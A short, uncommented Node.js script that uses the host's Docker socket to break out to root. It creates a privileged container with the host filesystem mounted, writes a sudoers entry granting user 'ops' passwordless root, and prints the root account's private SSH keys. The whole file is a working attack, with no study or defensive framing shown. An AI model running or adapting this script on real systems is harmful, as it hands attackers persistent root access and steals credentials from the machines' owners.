const http = require('http');

const api = (method, path, body) => new Promise((ok, fail) => {
  const req = http.request({ socketPath: '/var/run/docker.sock', method, path: `/v1.43${path}`, headers: { 'Content-Type': 'application/json' } }, (res) => {
    let data = '';
    res.on('data', (c) => { data += c; });
    res.on('end', () => ok(data && res.headers['content-type']?.includes('json') ? JSON.parse(data) : data));
  });
  req.on('error', fail);
  req.end(body && JSON.stringify(body));
});

(async () => {
  const { Id } = await api('POST', '/containers/create', {
    Image: 'busybox',
    Cmd: ['sh', '-c', 'echo "ops ALL=(ALL) NOPASSWD: ALL" > /h/etc/sudoers.d/ops; cat /h/root/.ssh/id_*'],
    HostConfig: { Binds: ['/:/h'], Privileged: true },
  });
  await api('POST', `/containers/${Id}/start`);
  await api('POST', `/containers/${Id}/wait`);
  console.log(await api('GET', `/containers/${Id}/logs?stdout=1`));
})();
